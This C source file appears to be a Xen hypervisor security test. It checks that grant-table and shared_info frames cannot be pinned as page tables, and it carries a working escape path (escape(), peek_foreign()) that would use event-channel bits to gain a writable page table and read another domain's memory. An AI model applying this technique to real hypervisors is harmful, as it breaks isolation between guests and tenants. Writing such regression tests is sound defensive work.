/* Attack: page tables made of frames the hypervisor writes. */
#include <libos/events.h>
#include "mmattack.h"
#include "mmcheck.h"

/*
 * Turn the frames the hypervisor writes for us (the grant table,
 * shared_info) into page tables.  Xen gives such shared hypervisor pages a
 * permanent writable type, so pinning them is -EINVAL.  Were it allowed,
 * every event the hypervisor marks pending would set a bit in a live page
 * table, unvalidated: port 1 is bit 1 of shared_info's first pending word,
 * the RW bit of entry 256.  escape() shows what that gives.
 */

#define PENDING_SLOT 256                    /* evtchn_pending[0] as a PTE */
#define SCAN_FRAMES  4096

static uint8_t hole[4096] __attribute__((aligned(4096)));   /* unmapped */
static uint8_t vinfo[4096] __attribute__((aligned(4096)));

static void grant_frame_not_pt(void)
{
    uint64_t gf = gnt_frame();
    char what[64];

    CHECK_TRUE("found our grant-table frame", gf != 0);
    for (unsigned cmd = MMUEXT_PIN_L1_TABLE; cmd <= MMUEXT_PIN_L4_TABLE;
         cmd++) {
        long rc = mmuext(cmd, gf);
        if (rc == 0)
            mmuext(MMUEXT_UNPIN_TABLE, gf);
        snprintf(what, sizeof(what), "pin our grant-table frame as an L%u",
                 cmd - MMUEXT_PIN_L1_TABLE + 1);
        check_err(what, gf, rc, -XEN_EINVAL);
    }
}

static evtchn_port_t virq_port(unsigned virq)
{
    for (evtchn_port_t p = 1; p < 64; p++) {
        evtchn_status_t st = { .dom = DOMID_SELF, .port = p };
        if (!hypercall_event_channel_op(EVTCHNOP_status, &st) &&
            st.status == EVTCHNSTAT_virq && st.u.virq == virq)
            return p;
    }
    return 0;
}

/* Read another domain's start_info through raw entry k of our L1, the
 * entry of hole. */
static void peek_foreign(volatile uint64_t *l1w, unsigned k)
{
    const unsigned long *m2p = (const unsigned long *)MACH2PHYS_VIRT_START;
    const char *peek = (const char *)hole;
    uint64_t m = foreign_mfn();

    for (unsigned n = 0; m > 0x100 && n < SCAN_FRAMES; n++, m--) {
        if (m2p[m] == ~0UL || mfn_ours(m))
            continue;
        l1w[k] = m << 12 | PTE_RO_FLAGS;
        mmuext(MMUEXT_TLB_FLUSH_LOCAL, 0);
        if (!strncmp(peek, "xen-3.0-x86_64", 14)) {
            const start_info_t *si = (const start_info_t *)peek;
            printf("mmattack: escaped xenheap-pt: read another domain's "
                   "start_info in machine frame 0x%lx: \"%s\", %lu pages, "
                   "command line \"%.40s\"\n", m, si->magic, si->nr_pages,
                   (const char *)si->cmd_line);
            return;
        }
    }
    printf("mmattack: escaped xenheap-pt: our L1 is writable\n");
}

/* shared_info is an L1: hook it, let the hypervisor set the RW bit of the
 * entry that maps our L1 x read-only, then write x. */
static void __attribute__((noreturn)) escape(uint64_t si, uint64_t x)
{
    volatile uint64_t *w = (volatile uint64_t *)(HOOK_VA + PENDING_SLOT *
                                                 PAGE);
    uint64_t l2 = table_mfn(VIRT_BASE, 2);
    unsigned k = (l1e_maddr((uint64_t)hole) & (PAGE - 1)) / 8;
    evtchn_bind_ipi_t ipi = { .vcpu = 0 };
    long hook, bind;

    hook = pte_write(l2 << 12 | FREE_L2_SLOT * 8, si << 12 | PTE_RW_FLAGS);
    bind = hypercall_event_channel_op(EVTCHNOP_bind_ipi, &ipi);
    if (hook || bind || ipi.port != 1 || w[k]) {
        printf("mmattack: xenheap-pt: shared_info pinned; hook %ld, ipi %ld "
               "port %u: no escape tried\n", hook, bind, ipi.port);
        libos_exit(1);
    }
    evtchn_send(ipi.port);                 /* the hypervisor sets bit 1 */
    mmuext(MMUEXT_TLB_FLUSH_LOCAL, 0);
    if (probe_write((volatile uint8_t *)&w[k], 0)) {
        printf("mmattack: xenheap-pt: shared_info pinned, entry stayed "
               "read-only\n");
        libos_exit(1);
    }
    peek_foreign(w, k);
    libos_exit(1);
}

static void shared_info_not_pt(void)
{
    uint64_t si = start_info->shared_info >> 12;
    uint64_t x = l1e_maddr((uint64_t)hole) >> 12, va = (uint64_t)shared_info;
    struct vcpu_register_vcpu_info r = { .mfn = va_to_mfn((uint64_t)vinfo) };
    evtchn_port_t timer = virq_port(VIRQ_TIMER);
    long rc;

    CHECK_EQ("unmap a page of ours", hypercall_update_va_mapping(
             (uint64_t)hole, 0, UVMF_INVLPG), 0);
    /* nothing but event bits may change shared_info from here on */
    events_disable();
    CHECK_EQ("move our vcpu_info out of shared_info",
             hypercall_vcpu_op(VCPUOP_register_vcpu_info, 0, &r), 0);
    CHECK_EQ("close the timer's port", timer ? evtchn_close(timer) : -1, 0);
    memset(shared_info, 0, PAGE);
    ((uint64_t *)shared_info)[PENDING_SLOT] = x << 12 | PTE_RO_FLAGS;
    CHECK_EQ("unmap shared_info", hypercall_update_va_mapping(va, 0,
             UVMF_INVLPG), 0);
    rc = mmuext(MMUEXT_PIN_L1_TABLE, si);
    check_err("pin shared_info (one entry: our L1, read-only) as an L1",
              si, rc, -XEN_EINVAL);
    /* the probes' handler reads shared_info: give it a read-only view */
    hypercall_update_va_mapping(va, si << 12 | PTE_RO_FLAGS, UVMF_INVLPG);
    if (rc == 0)
        escape(si, x);
}

int attack_xenheap_pt(int argc, char **argv)
{
    probe_init();
    grant_frame_not_pt();
    shared_info_not_pt();
    return checks_summary(attack_name);
}
